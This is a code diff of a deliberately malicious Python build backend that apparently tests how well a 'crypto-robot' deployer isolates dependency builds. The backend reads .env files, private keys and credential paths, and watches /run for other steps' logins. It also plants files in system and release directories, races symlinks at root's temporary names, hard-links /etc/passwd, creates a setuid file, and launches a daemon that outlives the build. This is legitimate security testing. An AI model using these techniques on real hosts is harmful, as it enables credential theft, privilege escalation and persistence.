@@ -1,19 +1,23 @@
 """The build backend of a dependency that was taken over: it attacks first, then builds an ordinary wheel.
 
-It writes what it tried, and each result, to /tmp/build-hook.json. attack.json beside it names the stories: privileges,
-manifest, log, temporary, home; and whether the build fails in the end.
+attack.json beside it names the stories, which are functions here, and whether the build fails in the end. Each result goes to
+build-hook.json in the virtual environment, the only place that a build may write to; a build that fails prints it.
 """
 
+import glob
 import json
 import os
+import pwd
 import subprocess
 import sys
+import time
 import zipfile
 
 APPLICATION = "/opt/crypto-robot"
 STATE = "/var/lib/crypto-robot-deployer"
 HOME = "/home/ec2-user"
 UNIT = "[Unit]\nDescription=planted\n[Service]\nExecStart=/bin/touch /root/pwned\n"
+SECONDS_TO_SPY = 25
 
 
 def tried(action, *arguments):
@@ -25,7 +29,10 @@ def tried(action, *arguments):
 
 
 def output_of(*command):
-    done = subprocess.run(command, capture_output=True, text=True, check=False)
+    try:
+        done = subprocess.run(command, capture_output=True, text=True, check=False)
+    except OSError as error:
+        return error.strerror
     return (done.stdout + done.stderr).strip()
 
 
@@ -33,6 +40,19 @@ def written(path, text):
     os.makedirs(os.path.dirname(path), exist_ok=True)
     with open(path, "w") as file:
         file.write(text)
+
+
+def readable(*patterns):
+    """The files that this process can read."""
+    found = []
+    for path in (path for pattern in patterns for path in glob.glob(pattern, recursive=True)):
+        try:
+            with open(path, "rb") as file:
+                file.read(1)
+            found.append(path)
+        except OSError:
+            continue
+    return found
 
 
 def there_and_back(path):
@@ -45,20 +65,39 @@ def privileges(_):
         status = dict(line.rstrip("\n").split(":\t", 1) for line in file if ":\t" in line)
     found = {name: status[name] for name in ("NoNewPrivs", "CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", "Groups")}
     found.update(sudo=output_of("sudo", "-n", "id"), setuid=output_of("/usr/local/bin/setuid-id"),
-                 home=sorted(os.listdir(os.environ["HOME"])), home_writable=os.access(os.environ["HOME"], os.W_OK))
+                 user=pwd.getpwuid(os.getuid()).pw_name, home=sorted(os.listdir(os.environ["HOME"])),
+                 homes=[path for path in glob.glob("/home/*") + ["/root"] if os.access(path, os.W_OK)],
+                 others=len([pid for pid in os.listdir("/proc") if pid.isdigit() and os.stat("/proc/" + pid).st_uid != os.getuid()]))
+    return found
+
+
+def secrets(_):
+    """What this build can read of others, and whether it can write where the rest of the deployer does."""
+    found = {"read": readable(
+        APPLICATION + "/releases/*/.env", APPLICATION + "/current/.env", APPLICATION + "/releases/*/.deployer-env-base",
+        APPLICATION + "/certificates/**/key.pem", APPLICATION + "/certificates/.versions/*/key.pem",
+        APPLICATION + "/.deployer/**", APPLICATION + "/lock", APPLICATION + "/history.jsonl", APPLICATION + "/log/*",
+        APPLICATION + "/mirror/*/config", "/var/lib/crypto-robot-deployer/**", "/run/crypto-robot-*/git/*", "/run/crypto-robot-*/**", "/etc/crypto-robot-index.netrc")}
+    own = os.path.realpath(sys.prefix)
+    places = {"application": APPLICATION, "release": max(glob.glob(APPLICATION + "/releases/*"), default=APPLICATION + "/releases/x"),
+              "current": os.path.join(os.path.realpath(APPLICATION + "/current")), "shared": APPLICATION + "/shared/data",
+              "environment": next((path for path in glob.glob(APPLICATION + "/venvs/*") if path != own), APPLICATION + "/venvs/another"),
+              "mirror": next(iter(glob.glob(APPLICATION + "/mirror/*")), APPLICATION + "/mirror/x.git"),
+              "deployer": APPLICATION + "/.deployer", "etc": "/etc", "run": "/run", "program": "/usr/local/lib/crypto-robot-deployer"}
+    found["write"] = {name: tried(written, os.path.join(place, "planted"), "x") for name, place in places.items()}
     return found
 
 
 def manifest(attack):
     """The manifest of the serving release gets a number that is a command."""
     path = os.path.join(os.path.realpath(APPLICATION + "/current"), "release.json")
-    with open(path) as file:
-        found = json.load(file)
-    for service in found["services"]:
-        if service["type"] == "trading_robot":
-            service.update(heartbeat_file="data/heartbeat", max_age_seconds=attack["number"])
 
     def replaced():
+        with open(path) as file:
+            found = json.load(file)
+        for service in found["services"]:
+            if service["type"] == "trading_robot":
+                service.update(heartbeat_file="data/heartbeat", max_age_seconds=attack["number"])
         os.unlink(path)
         written(path, json.dumps(found))
     return tried(replaced)
@@ -78,43 +117,63 @@ def log(_):
 
 def temporary(_):
     """Links at the names to which root used to write, with the ids of future processes."""
-    release = max(os.path.join(APPLICATION, "releases", name) for name in os.listdir(APPLICATION + "/releases"))
+    releases = glob.glob(APPLICATION + "/releases/*")
     made = 0
     for number in range(os.getpid(), os.getpid() + 6000):
         for name in (".deployer-env-base", "release.json"):
-            link = "%s/%s.%d.new" % (release, name, number)
-            made += tried(os.symlink, "/etc/planted-by-a-link", link) == "done"
+            for release in releases:
+                link = "%s/%s.%d.new" % (release, name, number)
+                made += tried(os.symlink, "/etc/planted-by-a-link", link) == "done"
     return made
 
 
-def home(attack):
-    """Settings for later steps: another repository, another package index."""
-    here = "file://%s/other.git" % HOME
-    output_of("git", "-c", "init.defaultBranch=main", "init", "-q", HOME + "/other")
-    written(HOME + "/other/main.py", "raise SystemExit('not the owner\\'s commit')\n")
-    output_of("git", "-C", HOME + "/other", "add", "-A")
-    output_of("git", "-C", HOME + "/other", "-c", "user.name=x", "-c", "user.email=x@x", "commit", "-qm", "Not the owner's")
-    output_of("git", "clone", "-q", "--bare", HOME + "/other", HOME + "/other.git")
-    with open(os.path.join(os.path.realpath(APPLICATION + "/current"), "release.json")) as file:
-        url = json.load(file)["repository_url"]
-    instead = '[url "%s"]\n\tinsteadOf = %s\n' % (here, url)
-    written(HOME + "/.gitconfig", instead)
-    written(HOME + "/.config/pip/pip.conf", "[install]\ntarget = %s/packages\n" % HOME)
-    written(HOME + "/.ssh/config", "Host *\n\tProxyCommand /bin/false\n")
+def home(_):
+    """Settings for later steps in the homes that git, pip and ssh look at."""
+    return {name: tried(written, "%s/%s" % (HOME, name), "x") for name in (".gitconfig", ".config/pip/pip.conf", ".ssh/config")}
 
-    def mirrored():
-        for name in os.listdir(APPLICATION + "/mirror"):
-            with open("%s/mirror/%s/config" % (APPLICATION, name), "a") as file:
-                file.write(instead)
-    return {"gitconfig": os.path.exists(HOME + "/.gitconfig"), "mirror": tried(mirrored)}
+
+def links(_):
+    """What root would change when it takes over the environment."""
+    outside = [path for path in ("/usr/bin/id", "/etc/passwd", APPLICATION + "/current/.env") if os.path.lexists(path)]
+
+    def set_id():
+        written(sys.prefix + "/set-id", "x")
+        os.chmod(sys.prefix + "/set-id", 0o4755)
+    os.symlink("/etc/passwd", sys.prefix + "/link-to-passwd")
+    return {"hard": {path: tried(os.link, path, "%s/hard-%d" % (sys.prefix, number)) for number, path in enumerate(outside)},
+            "set_id": tried(set_id)}
+
+
+def pipe(_):
+    """Whoever reads it waits without end."""
+    return tried(os.mkfifo, sys.prefix + "/pipe")
+
+
+def daemon(_):
+    """A process that leaves its session and its parents, and writes to the environment for as long as it lives."""
+    code = ("import os, time\nif os.fork(): os._exit(0)\nos.setsid()\nif os.fork(): os._exit(0)\n"
+            "until = time.time() + 600\n"
+            "while time.time() < until:\n open(%r, 'w').write('outlives-its-build')\n time.sleep(0.02)\n" % (sys.prefix + "/alive"))
+    quiet = {"stdin": subprocess.DEVNULL, "stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}
+    subprocess.run([sys.executable, "-c", code, "outlives-its-build"], start_new_session=True, check=False, **quiet)
+    return os.path.exists(sys.prefix)
+
+
+def spies(_):
+    """Looks for the login of a step that runs at the same time."""
+    found, until = set(), time.time() + SECONDS_TO_SPY
+    while time.time() < until:
+        found.update(readable("/run/crypto-robot-*/git/*", "/run/crypto-robot-*/**", "/run/credentials/**", "/tmp/crypto-robot-*/**"))
+    return sorted(found)
 
 
 def build_wheel(folder, config_settings=None, metadata_directory=None):
     with open("attack.json") as file:
         attack = json.load(file)
     found = {name: globals()[name](attack) for name in attack["stories"]}
-    written("/tmp/build-hook.json", json.dumps(found))
+    written(sys.prefix + "/build-hook.json", json.dumps(found))
     if attack["fails"]:
+        print("build-hook: " + json.dumps(found), flush=True)
         sys.exit("the build ends here")
     name = "taken_over-%s-py3-none-any.whl" % attack["version"]
     about = "taken_over-%s.dist-info/" % attack["version"]
